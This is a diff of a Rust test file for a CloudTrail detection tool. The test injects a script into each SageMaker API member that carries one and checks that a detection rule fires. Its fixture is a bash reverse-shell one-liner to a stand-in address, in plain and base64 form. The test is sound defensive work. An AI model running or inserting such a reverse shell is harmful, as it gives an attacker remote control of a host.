@@ -4,10 +4,12 @@
 use std::collections::{BTreeMap, BTreeSet};
 use std::path::{Path, PathBuf};
 
+use base64::Engine;
+use base64::prelude::BASE64_STANDARD;
 use sagetrail::config::{RulesConfig, Scope};
 use sagetrail::enrich::rules::RuleSet;
 use sagetrail::enrich::{Enriched, Knowledge, Origin, Severity, enrich};
-use serde_json::Value;
+use serde_json::{Value, json};
 use time::macros::datetime;
 
 use crate::support::examples::{self, Example, Values};
@@ -97,39 +99,40 @@ fn every_folder_of_examples_belongs_to_a_rule() {
     }
 }
 
-/// Members of the API that hold a script or a command line.
-const SCRIPTS: [&str; 5] = [
-    "containerEntrypoint",
-    "containerArguments",
-    "studioLifecycleConfigContent",
-    "onCreate.content",
-    "onStart.content",
-];
+/// Members of the API that hold a script or a command line, and a shell for another host as it stands there.
+fn scripts() -> [(&'static str, Value); 5] {
+    let script = "bash -i >& /dev/tcp/198.51.100.77/443 0>&1";
+    let packed = Value::from(BASE64_STANDARD.encode(script));
+    [
+        ("containerEntrypoint", json!(["bash", "-c", script])),
+        ("containerArguments", json!(["bash", "-c", script])),
+        ("studioLifecycleConfigContent", packed.clone()),
+        ("onCreate.content", packed.clone()),
+        ("onStart.content", packed),
+    ]
+}
 
 #[test]
-fn every_rule_about_scripts_names_each_call_that_carries_one() {
+fn a_script_is_judged_in_every_member_of_every_call_that_carries_one() {
     let shapes: BTreeMap<String, Value> =
         serde_json::from_str(include_str!("../api/sagemaker-shapes.json")).unwrap();
-    let carries_script = |shape: &Value| {
-        let mut members = shape["input"].as_array().unwrap().iter().filter_map(Value::as_str);
-        members.any(|member| SCRIPTS.iter().any(|script| member.ends_with(script)))
-    };
-    let calls: Vec<String> = shapes
-        .iter()
-        .filter(|(_, shape)| carries_script(shape))
-        .map(|(name, _)| format!("'{name}'"))
-        .collect();
-    assert!(calls.len() > 9, "{calls:?}");
-    let mut rules = 0;
-    for path in rule_files() {
-        let text = std::fs::read_to_string(&path).unwrap();
-        if text.contains("sagemaker.lifecycle.script|") {
-            rules += 1;
-            let missing: Vec<&String> = calls.iter().filter(|call| !text.contains(*call)).collect();
-            assert!(missing.is_empty(), "{}: {missing:?}", path.display());
+    let knowledge = load(Values::new());
+    let mut members = 0;
+    for (operation, shape) in &shapes {
+        for member in shape["input"].as_array().unwrap().iter().filter_map(Value::as_str) {
+            let Some((_, script)) = scripts().into_iter().find(|(script, _)| member.ends_with(script)) else {
+                continue;
+            };
+            members += 1;
+            let parameters = member.rsplit('.').fold(script, |value, name| json!({ (name): value }));
+            let record = json!({
+                "eventSource": "sagemaker.amazonaws.com", "eventName": operation, "requestParameters": parameters,
+            });
+            let id = "65b64fb0-e7eb-46d7-a180-c5e74adf744d";
+            assert!(has(&document(&record, &knowledge)["rule"]["id"], id), "{operation} {member}");
         }
     }
-    assert!(rules > 10, "{rules}");
+    assert!(members > 15, "{members}");
 }
 
 /// sigma-cli would fetch ATT&CK for this check.
